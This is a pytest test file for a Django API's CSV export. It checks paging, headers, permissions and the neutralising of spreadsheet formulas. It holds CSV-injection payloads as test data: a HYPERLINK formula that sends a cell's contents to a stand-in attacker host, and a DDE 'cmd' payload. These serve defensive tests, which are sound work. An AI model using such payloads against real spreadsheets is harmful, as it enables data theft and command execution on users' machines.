"""`?format=csv` on every list of the API: every row (not one page), streamed, a header row even when nothing
matches, `text/csv; charset=utf-8`, a download name, the same permissions and parameters as the JSON list, and
through the one CSV writer (formulas neutralised, numbers left numbers)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.http import StreamingHttpResponse

from coalition.events.models import Event
from coalition.events.tests.factories import EventFactory
from coalition.letters.tests.factories import ActionFactory
from coalition.lib.api.pagination import Pagination
from coalition.lib.tests.helpers import saved_name
from coalition.members.tests.factories import OrganisationFactory
from coalition.research.models import BREAKDOWN_FIELDS
from coalition.research.services import casualty_totals_refresh
from coalition.research.tests.factories import CasualtyFactory
from coalition.states.api.views import AllStatesPagination
from coalition.states.tests.factories import MeetingFactory, StateFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Details")'

# Each list: its URL, the download's name, a column of its header, and how to make one row of it.
LISTS = {
    "organisations": ("/api/v1/organisations/", "organisation.csv", "slug", lambda: OrganisationFactory()),
    "states": ("/api/v1/states/", "state.csv", "iso3", lambda: StateFactory()),
    "meetings": ("/api/v1/meetings/", "meeting.csv", "slug", lambda: MeetingFactory()),
    "events": ("/api/v1/events/", "event.csv", "title", lambda: EventFactory()),
    "actions": ("/api/v1/actions/", "action.csv", "slug", lambda: ActionFactory()),
    "casualties": ("/api/v1/research/casualties/", "research-casualty.csv", "killed", lambda: CasualtyFactory()),
}


def _csv(client, url: str, **kwargs) -> tuple[list[list[str]], StreamingHttpResponse]:
    response = client.get(url, **kwargs)
    assert response.status_code == 200, response.status_code
    assert isinstance(response, StreamingHttpResponse), "a CSV download is streamed, not built in memory"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")  # type: ignore[arg-type]
    return list(csv.reader(io.StringIO(text))), response


def _dicts(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


@pytest.fixture
def small_pages(monkeypatch):
    """Pages of two rows, so three rows are more than a page."""
    monkeypatch.setattr(Pagination, "page_size", 2)
    monkeypatch.setattr(AllStatesPagination, "page_size", 2)


@pytest.mark.parametrize("name", LISTS)
def test_the_csv_of_each_list_holds_every_row_where_the_json_holds_one_page(client, small_pages, name):
    url, filename, _column, make = LISTS[name]
    for _ in range(3):
        make()

    page = client.get(url).json()
    rows, response = _csv(client, url + "?format=csv")

    assert page["count"] == 3 and len(page["results"]) == 2 and page["next"]
    assert len(rows) == 1 + 3
    assert saved_name(response) == filename


@pytest.mark.parametrize("name", LISTS)
def test_the_csv_of_an_empty_list_is_a_header_row(client, name):
    url, filename, column, _make = LISTS[name]

    rows, response = _csv(client, url + "?format=csv")

    assert len(rows) == 1 and column in rows[0]
    assert saved_name(response) == filename


def test_the_casualty_csv_holds_all_of_more_than_a_hundred_records(client):
    CasualtyFactory.create_batch(105)

    assert client.get("/api/v1/research/casualties/").json()["count"] == 105
    rows, _response = _csv(client, "/api/v1/research/casualties/?format=csv")

    assert len(rows) == 1 + 105
    assert len({row[0] for row in rows[1:]}) == 105  # every record once


def test_the_casualty_totals_answer_csv_too_with_a_header_when_empty(client):
    rows, response = _csv(client, "/api/v1/research/casualties/summary/?format=csv")

    assert rows == [["state", "year", "killed", "injured", "records", *BREAKDOWN_FIELDS]]
    assert saved_name(response) == "research-casualty-summary.csv"


def test_the_casualty_totals_csv_holds_each_state_and_year_with_the_same_parameters_as_the_json(client):
    laos, cambodia = StateFactory(iso3="LAO"), StateFactory(iso3="KHM")
    for state, year in ((laos, 2019), (laos, 2020), (cambodia, 2020)):
        CasualtyFactory(state=state, date=date(year, 3, 1))
    casualty_totals_refresh()

    rows = _dicts(_csv(client, "/api/v1/research/casualties/summary/?format=csv&state=LAO")[0])

    assert [(row["state"], row["year"], row["records"]) for row in rows] == [("LAO", "2019", "1"), ("LAO", "2020", "1")]


def test_the_csv_is_also_reached_by_the_format_suffix_and_the_accept_header(client):
    OrganisationFactory(name="Alpha Aid")

    by_suffix, _ = _csv(client, "/api/v1/organisations.csv")
    by_accept, _ = _csv(client, "/api/v1/organisations/", headers={"Accept": "text/csv"})

    assert by_suffix == by_accept and len(by_suffix) == 2


def test_the_csv_applies_the_same_parameters_and_permissions_as_the_json(client, carol):
    EventFactory(title="Debate in Oslo", kind=Event.Kind.DEBATE)
    EventFactory(title="Vigil in Lima", kind=Event.Kind.VIGIL)
    EventFactory(title="Draft debate", kind=Event.Kind.DEBATE, status=Event.Status.DRAFT, published_at=None)

    public, _ = _csv(client, "/api/v1/events/?format=csv&kind=debate")
    client.force_login(carol)
    staff, _ = _csv(client, "/api/v1/events/?format=csv&kind=debate&status=draft")

    assert [row["title"] for row in _dicts(public)] == ["Debate in Oslo"]
    assert [row["title"] for row in _dicts(staff)] == ["Draft debate"]


def test_a_refused_parameter_in_csv_is_a_json_400_not_a_download(client):
    response = client.get("/api/v1/research/casualties/?format=csv&date_from=yesterday")

    assert response.status_code == 400 and "Content-Disposition" not in response
    assert response["Content-Type"] == "application/json" and "date_from" in response.json()


def test_a_detail_answers_json_only(client):
    OrganisationFactory(slug="alpha-aid")

    response = client.get("/api/v1/organisations/alpha-aid/?format=csv")

    assert response.status_code == 400 and "format" in response.json()


# --- through the one writer -----------------------------------------------------------------------------------


def test_the_research_csv_neutralises_a_formula_and_keeps_a_negative_longitude_a_number(client):
    CasualtyFactory(state=StateFactory(iso3="SLE"), latitude=8.48, longitude=-13.23, activity=FORMULA)

    [row] = _dicts(_csv(client, "/api/v1/research/casualties/?format=csv")[0])

    assert row["activity"] == "'" + FORMULA
    assert (row["latitude"], row["longitude"], row["killed"]) == ("8.48", "-13.23", "1")


def test_the_events_csv_neutralises_a_formula(client):
    EventFactory(title=FORMULA, city="@SUM(1+1)")

    [row] = _dicts(_csv(client, "/api/v1/events/?format=csv")[0])

    assert (row["title"], row["city"]) == ("'" + FORMULA, "'@SUM(1+1)")


def test_the_actions_csv_neutralises_a_formula(client):
    ActionFactory(title=FORMULA, slug="join")

    [row] = _dicts(_csv(client, "/api/v1/actions/?format=csv")[0])

    assert (row["title"], row["slug"]) == ("'" + FORMULA, "join")


def test_the_organisations_csv_neutralises_a_formula(client):
    OrganisationFactory(name="-2+3+cmd|' /C calc'!A0", city="+47 Oslo")

    [row] = _dicts(_csv(client, "/api/v1/organisations/?format=csv")[0])

    assert (row["name"], row["city"]) == ("'-2+3+cmd|' /C calc'!A0", "'+47 Oslo")


def test_the_states_csv_neutralises_a_formula(client):
    StateFactory(iso3="NOR", name=FORMULA)

    rows = _dicts(_csv(client, "/api/v1/states/?format=csv")[0])

    assert [row["name"] for row in rows if row["iso3"] == "NOR"] == ["'" + FORMULA]
